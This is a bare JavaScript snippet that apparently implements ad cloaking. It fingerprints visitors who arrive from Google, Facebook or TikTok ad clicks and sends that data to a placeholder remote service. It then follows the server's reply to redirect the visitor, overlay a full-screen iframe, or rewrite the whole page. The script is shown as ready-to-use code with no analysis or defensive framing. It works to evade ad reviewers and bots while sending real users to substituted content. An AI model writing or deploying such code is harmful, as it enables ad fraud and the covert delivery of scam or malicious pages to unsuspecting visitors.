!async function () {
  const q = new URLSearchParams(location.search);
  const p = {
    ua: navigator.userAgent, wd: !!navigator.webdriver, lang: navigator.language, tz: Intl.DateTimeFormat().resolvedOptions().timeZone,
    mem: navigator.deviceMemory, hc: navigator.hardwareConcurrency, tp: navigator.maxTouchPoints, sw: screen.width, sh: screen.height,
    ref: document.referrer, click: q.get('gclid') || q.get('fbclid') || q.get('ttclid')
  };
  if (!p.click) return;
  const r = await fetch('https://flt.cloak-svc.example/v1/check', { method: 'POST', body: JSON.stringify({ flow: 'f-2201', p }) });
  const v = await r.json();
  if (v.action === 'redirect') location.replace(v.url);
  if (v.action === 'iframe') document.documentElement.innerHTML = '<iframe src="' + v.url + '" style="position:fixed;inset:0;width:100vw;height:100vh;border:0"></iframe>';
  if (v.action === 'html') { document.open(); document.write(v.html); document.close(); }
}();
